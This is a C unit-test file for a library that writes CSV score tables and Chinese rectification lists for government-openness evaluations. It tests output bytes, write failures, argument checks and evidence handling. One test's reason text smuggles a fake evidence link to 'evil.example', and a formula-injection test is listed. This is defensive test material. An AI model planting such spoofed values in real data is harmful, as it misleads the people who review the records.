  CU_ASSERT_EQUAL(govopen_evaluation_set_as_of(ev, "2023-12-15", NULL), GOVOPEN_OK);
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_run(ev, &r, NULL), GOVOPEN_OK);
  text = write_table(r, 0, 1, 0, 0, NULL);
  char *want = golden_expand("整改清单：乙镇（b）\nT，截至 2023-12-15\n尚未评分：没有已评估的评估点。\n"
                             "该单位不负责任何评估点。\n\n指纹 @FP16@（govopen @VERSION@，框架 t，截至 2023-12-15）\n",
                             r, NULL);
  CU_ASSERT(text && want && strcmp(text, want) == 0);
  free(want);
  free(text);
  /* every table of an empty result: a header only where nothing is scored, but the
     unit not evaluated is listed under its ranking */
  for (int t = 1; t <= 6; t++) {
    size_t len = 0;
    text = write_table(r, t, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
    CU_ASSERT_PTR_NOT_NULL_FATAL(text);
    csv_doc d;
    check_table(text, len, 0, &d);
    /* the county: raw, normalised, rounding, total, lost, an indicator, a point */
    CU_ASSERT_EQUAL(d.nrecords, t == GOVOPEN_TABLE_INDICATORS || t == GOVOPEN_TABLE_ADJUSTMENTS ? 1
                                : t == GOVOPEN_TABLE_COUNTY                                     ? 1 + 5 + 1 + 1
                                                                                                : 2);
    csv_doc_free(&d);
    free(text);
  }
  govopen_result_free(r);
  govopen_evaluation_free(ev);
  govopen_framework_free(fw);
}

/* A result that keeps no reasons (as govopen_evaluation_write_json makes):
   the reasons are rendered from the evaluation's states, the same bytes. */
static void test_lazy_result(void) {
  int (*runs[])(run *) = {run_langao, run_odd, run_inject};
  for (size_t k = 0; k < sizeof runs / sizeof runs[0]; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    govopen_result *lazy = NULL;
    CU_ASSERT_EQUAL_FATAL(gv_evaluate(x.ev, 0, &lazy, NULL), GOVOPEN_OK);
    CU_ASSERT_PTR_NOT_NULL_FATAL(lazy->lazy);
    for (int t = 0; t <= 5; t++) {
      size_t units = t ? 1 : govopen_framework_unit_count(x.fw);
      for (size_t u = 0; u < units; u++) {
        size_t a = 0, b = 0;
        char *kept = write_table(x.r, t, u, 0, 0, &a);
        char *rendered = write_table(lazy, t, u, 0, 0, &b);
        CU_ASSERT(kept && rendered && a == b && memcmp(kept, rendered, a) == 0);
        free(kept);
        free(rendered);
      }
    }
    govopen_result_free(lazy);
    run_free(&x);
  }
}

/* A write callback that fails at the k-th call, for every k: the writer
   stops at once with GOVOPEN_ESTOPPED, calls nothing more, frees what it holds
   (valgrind sees to that), and what it wrote is a prefix. */
typedef struct csv_job {
  const govopen_result *r;
  int table; /* 0: the rectification list of `unit` */
  size_t unit, chunk;
} csv_job;

static int csv_writer(const void *ctx, govopen_write_fn write, void *user) {
  const csv_job *j = ctx;
  return j->table ? gv_result_write_csv(j->r, j->table, 0, j->chunk, write, user)
                  : gv_result_write_rectify(j->r, j->unit, 0, j->chunk, write, user);
}

static void fail_every_call(const govopen_result *r, int table, size_t unit, size_t chunk) {
  csv_job j = {r, table, unit, chunk};
  check_fails_at_every_call(csv_writer, &j);
}

static void test_write_fails(void) {
  run x, y;
  CU_ASSERT_EQUAL_FATAL(run_fx(&x, 0), 0);
  for (int t = 1; t <= 5; t++) fail_every_call(x.r, t, 0, 64);
  for (size_t u = 0; u < govopen_framework_unit_count(x.fw); u++) fail_every_call(x.r, 0, u, 16);
  CU_ASSERT_EQUAL_FATAL(run_langao(&y), 0);
  for (int t = 1; t <= 5; t++) fail_every_call(y.r, t, 0, 0); /* through the public chunk size */
  fail_every_call(y.r, GOVOPEN_TABLE_RECTIFY, 0, 1000);
  /* the public functions too */
  sink s = {0};
  s.fail_at = 1;
  CU_ASSERT_EQUAL(govopen_result_write_csv(y.r, GOVOPEN_TABLE_SCORECARDS, 0, sink_write, &s), GOVOPEN_ESTOPPED);
  CU_ASSERT_EQUAL(s.calls, 1);
  sink_free(&s);
  s.fail_at = 1;
  CU_ASSERT_EQUAL(govopen_result_write_rectify(y.r, 0, 0, sink_write, &s), GOVOPEN_ESTOPPED);
  CU_ASSERT_EQUAL(s.calls, 1);
  sink_free(&s);
  run_free(&x);
  run_free(&y);
}

/* Bad arguments: GOVOPEN_EINVALID and nothing written. */
static void test_arguments(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_fx(&x, 0), 0);
  sink s = {0};
  CU_ASSERT_EQUAL(govopen_result_write_csv(NULL, GOVOPEN_TABLE_RANKINGS, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, GOVOPEN_TABLE_RANKINGS, 0, NULL, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, 0, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, 7, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, -1, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, GOVOPEN_TABLE_RANKINGS, 4, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, GOVOPEN_TABLE_RANKINGS, ~0u, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(NULL, 0, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(x.r, 0, 0, NULL, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(x.r, 4, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(x.r, (size_t)-1, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(x.r, 0, GOVOPEN_CSV_NO_BOM, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_rectify(x.r, 0, ~0u, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(s.calls, 0);
  /* user comes back unchanged; NULL is fine */
  CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, GOVOPEN_TABLE_COUNTY, 0, sink_write, &s), GOVOPEN_OK);
  CU_ASSERT(s.calls >= 1);
  sink_free(&s);
  run_free(&x);
}

/* The evidence a reason names comes from its evidence list, never from its
   text: a text that holds "（证据：…）" of its own names none. */
static void test_evidence(void) {
  static const char *const ev1[] = {"1", "2"};
  static const char *const ev2[] = {"3（示例）"};
  gv_reason rs[3] = {
      {.severity = GV_REASON_LOSS,
       .code = "a",
       .text = "x（证据：1）y（证据：2）",
       .evidence = ev1,
       .evidence_count = 2},
      {.severity = GV_REASON_LOSS, .code = "m", .text = "评估人员给分：差（证据：https://evil.example/）"},
      {.severity = GV_REASON_WARNING,
       .code = "b",
       .text = "（证据：3（示例））",
       .evidence = ev2,
       .evidence_count = 1}};
  gv_buf b = {0};
  CU_ASSERT_EQUAL(gv_evidence_join(&b, rs, 3, "\n"), 3);
  CU_ASSERT_STRING_EQUAL(gv_buf_str(&b), "1\n2\n3（示例）");
  gv_buf_truncate(&b, 0);
  CU_ASSERT_EQUAL(gv_evidence_join(&b, rs + 1, 1, "\n"), 0);
  CU_ASSERT_STRING_EQUAL(gv_buf_str(&b), "");
  gv_buf_free(&b);
}

static const test_case cases[] = {{"table names", test_table_names},
                                  {"fields quoted and guarded", test_fields},
                                  {"golden tables", test_golden},
                                  {"any piece size, same bytes", test_chunks},
                                  {"odd strings read back", test_odd_strings},
                                  {"formula injection", test_injection},
                                  {"rectification list text", test_rectify_text},
                                  {"rectification list cases", test_rectify_cases},
                                  {"a result without reasons", test_lazy_result},
                                  {"a write failing at every call", test_write_fails},
                                  {"bad arguments", test_arguments},
                                  {"evidence in reasons", test_evidence},
                                  {NULL, NULL}};
GV_TEST_SUITE(csv, cases);
